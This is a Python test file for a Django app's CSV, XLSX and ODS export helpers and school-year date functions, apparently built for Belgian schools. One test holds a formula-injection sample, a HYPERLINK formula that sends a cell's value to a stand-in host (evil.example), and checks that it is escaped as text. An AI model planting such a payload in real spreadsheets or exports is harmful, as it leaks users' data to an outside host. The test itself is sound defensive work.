"""One CSV dialect for every download, and school years counted from 1 September."""

import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.http import Http404

from core.exports import dataset_response, format_choices
from core.school_years import school_year_bounds, school_year_choices, school_year_label, school_year_of


def test_csv_downloads_use_semicolons_and_a_bom_for_excel_in_belgium():
    dataset = tablib.Dataset(["Athénée", "9001"], headers=["École", "FASE"])
    response = dataset_response(dataset, "csv", "Écoles suivies")
    text = response.getvalue().decode("utf-8")
    assert text.startswith("\ufeffÉcole;FASE")
    assert "Athénée;9001" in text
    assert response["Content-Disposition"] == 'attachment; filename="ecoles-suivies.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"


def test_an_unknown_export_format_is_a_404():
    with pytest.raises(Http404):
        dataset_response(tablib.Dataset(), "exe", "x")


def test_the_formats_offered():
    assert [fmt for fmt, _ in format_choices()] == ["csv", "xlsx", "ods"]


@pytest.mark.parametrize(
    ("day", "year"), [(date(2025, 8, 31), 2024), (date(2025, 9, 1), 2025), (date(2026, 1, 15), 2025)]
)
def test_a_school_year_starts_on_1_september(day, year):
    assert school_year_of(day) == year


def test_school_year_labels_bounds_and_choices():
    assert school_year_label(2025) == "2025-2026"
    assert school_year_label(None) == ""
    assert school_year_bounds(2025) == (date(2025, 9, 1), date(2026, 8, 31))
    assert school_year_choices(around=2025, before=1, after=1) == [
        (2026, "2026-2027"),
        (2025, "2025-2026"),
        (2024, "2024-2025"),
    ]


HOSTILE = '=HYPERLINK("http://evil.example/?d="&A2;"Cliquez ici")'


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "ods"])
def test_text_that_a_spreadsheet_would_run_is_kept_as_text(fmt):
    dataset = tablib.Dataset(
        [HOSTILE, "+32 2 123 45 67", "-1+1", "@SUM(A1)", "\tTab", "Athénée", 42, -3],
        headers=["a", "b", "c", "d", "e", "f", "g", "h"],
    )
    content = dataset_response(dataset, fmt, "x").getvalue()
    cells = tablib.Dataset().load(
        content.decode("utf-8-sig") if fmt == "csv" else content,
        format=fmt,
        **({"delimiter": ";"} if fmt == "csv" else {}),
    )[0]
    assert list(cells[:5]) == ["'" + HOSTILE, "'+32 2 123 45 67", "'-1+1", "'@SUM(A1)", "'\tTab"]
    assert cells[5] == "Athénée"
    assert [float(value) for value in cells[6:]] == [42, -3]  # numbers stay numbers
    if fmt == "xlsx":
        assert b"<f>" not in _sheet_xml(content)


def _sheet_xml(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if name.startswith("xl/"))


def test_csv_downloads_write_decimal_commas_and_belgian_dates():
    dataset = tablib.Dataset(
        [9.5, Decimal("12.25"), 9.0, date(2025, 8, 31), datetime(2025, 8, 31, 14, 5, tzinfo=UTC), -3.5],
        headers=["jours", "taux", "entier", "fin", "le", "écart"],
    )
    text = dataset_response(dataset, "csv", "x").getvalue().decode("utf-8-sig")
    assert text.splitlines()[1] == "9,5;12,25;9;31/08/2025;31/08/2025 16:05;-3,5"


def test_xlsx_downloads_keep_real_numbers_and_dates_shown_the_belgian_way():
    dataset = tablib.Dataset(
        [9.5, Decimal("12.25"), date(2025, 8, 31), datetime(2025, 8, 31, 14, 5, tzinfo=UTC)],
        headers=["jours", "taux", "fin", "le"],
        title="Écoles : suivi [2025]",
    )
    content = dataset_response(dataset, "xlsx", "x").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    days, rate, end, moment = sheet[2]
    assert (days.data_type, days.value) == ("n", 9.5)
    assert (rate.data_type, rate.value) == ("n", 12.25)
    assert end.is_date and end.value == datetime(2025, 8, 31) and end.number_format == "DD/MM/YYYY"
    # The Brussels wall clock (UTC+2 in summer): spreadsheets know no time zones.
    assert moment.is_date and moment.value == datetime(2025, 8, 31, 16, 5)
    assert moment.number_format == "DD/MM/YYYY HH:MM"
    assert sheet.title == "Écoles - suivi -2025-"
    assert [cell.value for cell in sheet[1]] == ["jours", "taux", "fin", "le"]


def test_ods_downloads_keep_real_numbers_and_dates():
    dataset = tablib.Dataset([9.5, date(2025, 8, 31)], headers=["jours", "fin"])
    cells = tablib.Dataset().load(dataset_response(dataset, "ods", "x").content, format="ods")[0]
    assert cells == (9.5, date(2025, 8, 31))
